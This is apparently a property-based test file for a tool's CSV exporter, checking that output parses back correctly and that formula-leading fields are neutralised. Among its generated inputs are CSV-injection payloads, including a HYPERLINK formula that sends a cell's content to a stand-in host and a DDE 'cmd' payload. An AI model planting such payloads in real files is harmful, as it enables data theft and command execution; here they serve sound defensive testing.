// CSV output on generated outcomes: a CSV parser (csv-parse) reads back exactly what was written, one row per record
// or failed document, and no field a spreadsheet would run as a formula begins with = + - @, a tab or a carriage return.
import fc from "fast-check";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvFormat } from "../../src/cli/formats/csv.js";
import type { DefectionRecord, Place } from "../../src/index.js";
import type { DocumentErrorCode, DocumentOutcome } from "../../src/stream/index.js";
import { propertyTimeout, runsOf } from "./settings.js";

const FORMULA_START = /^[=+\-@\t\r]/;

/** OWASP: a field that starts like a formula is shown as text after a single quote. */
const neutralised = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);

const formulaLike = fc
  .tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'=", " ="), fc.string({ unit: "binary", maxLength: 20 }))
  .map(([start, rest]) => `${start}${rest}`);
const hostile = fc.oneof(
  formulaLike,
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1", "a,b", 'say "hi"', "line\r\nbreak", " edge "),
  fc.string({ unit: "binary", maxLength: 30 }),
  fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "'", " ", "a"), maxLength: 8 }),
);
const nullable = fc.option(hostile, { nil: null });

const place: fc.Arbitrary<Place | null> = fc.option(
  fc.record({ name: hostile, country: fc.option(hostile, { nil: null }), kind: fc.constantFrom("city", "country", "region") as fc.Arbitrary<Place["kind"]> }),
  { nil: null },
);

const record: fc.Arbitrary<DefectionRecord> = fc.record({
  id: hostile,
  person: fc.record({ name: nullable, description: nullable }),
  role: fc.option(fc.record({ title: hostile, category: fc.constant("diplomat") as fc.Arbitrary<"diplomat"> }), { nil: null }),
  organisation: fc.option(fc.record({ name: hostile, canonical: nullable }), { nil: null }),
  origin: place,
  destination: place,
  timeframe: fc.option(fc.record({ text: hostile, start: nullable, end: nullable, precision: fc.constant("year") as fc.Arbitrary<"year"> }), { nil: null }),
  count: fc.option(fc.integer({ min: 1, max: 500 }), { nil: null }),
  companions: fc.array(hostile, { maxLength: 3 }),
  status: fc.constant("defected") as fc.Arbitrary<"defected">,
  evidence: fc.array(fc.record({ text: hostile, start: fc.nat(), end: fc.nat() }), { minLength: 1, maxLength: 3 }),
  confidence: fc.double({ min: 0, max: 1, noNaN: true }),
});

const errorCodes: DocumentErrorCode[] = ["invalid_json", "invalid_text", "too_large", "worker_crashed", "extraction_failed"];
const base = fc.record({ id: fc.oneof(hostile, fc.integer(), fc.constant(null)), line: fc.option(fc.nat(), { nil: undefined }) });
const outcome: fc.Arbitrary<DocumentOutcome> = fc.oneof(
  fc.tuple(base, fc.array(record, { maxLength: 3 })).map(([document, records]) => ({
    ...document,
    result: { documentId: null, publishedAt: null, records, statistics: [], warnings: [] },
  })),
  fc.tuple(base, fc.constantFrom(...errorCodes), hostile).map(([document, code, message]) => ({ ...document, error: { code, message } })),
);

/** The text columns as the outcome holds them, before neutralising and quoting. */
function expectedColumns(document: DocumentOutcome): Array<Record<string, string>> {
  const shared = { document_id: document.id === null ? "" : String(document.id), line: document.line === undefined ? "" : String(document.line) };
  if ("error" in document) return [{ ...shared, error_code: document.error.code, error_message: document.error.message }];
  return document.result.records.map((found) => ({
    ...shared,
    record_id: found.id,
    name: found.person.name ?? "",
    description: found.person.description ?? "",
    role: found.role?.title ?? "",
    organisation: found.organisation?.name ?? "",
    origin: found.origin?.name ?? "",
    destination_country: found.destination?.country ?? "",
    timeframe: found.timeframe?.text ?? "",
    companions: found.companions.join("; "),
    evidence: found.evidence.map((span) => span.text).join(" | "),
  }));
}

describe("CSV output on generated outcomes", () => {
  it(
    "reads back, row for row, what was written, and no field starts a formula",
    () => {
      fc.assert(
        fc.property(fc.array(outcome, { maxLength: 4 }), (outcomes) => {
          const csv = csvFormat.begin() + outcomes.map((document, index) => csvFormat.format(document, index)).join("") + csvFormat.end();
          const [header, ...rows] = parse(csv, { bom: false, relax_column_count: false }) as string[][];
          const expected = outcomes.flatMap(expectedColumns);
          expect(rows).toHaveLength(expected.length);
          rows.forEach((row, index) => {
            expect(row).toHaveLength(header?.length ?? 0);
            for (const field of row) expect(FORMULA_START.test(field), JSON.stringify(field)).toBe(false);
            for (const [column, value] of Object.entries(expected[index] ?? {})) {
              expect(row[header?.indexOf(column) ?? -1], column).toBe(neutralised(value));
            }
          });
        }),
        runsOf(150),
      );
    },
    propertyTimeout,
  );
});
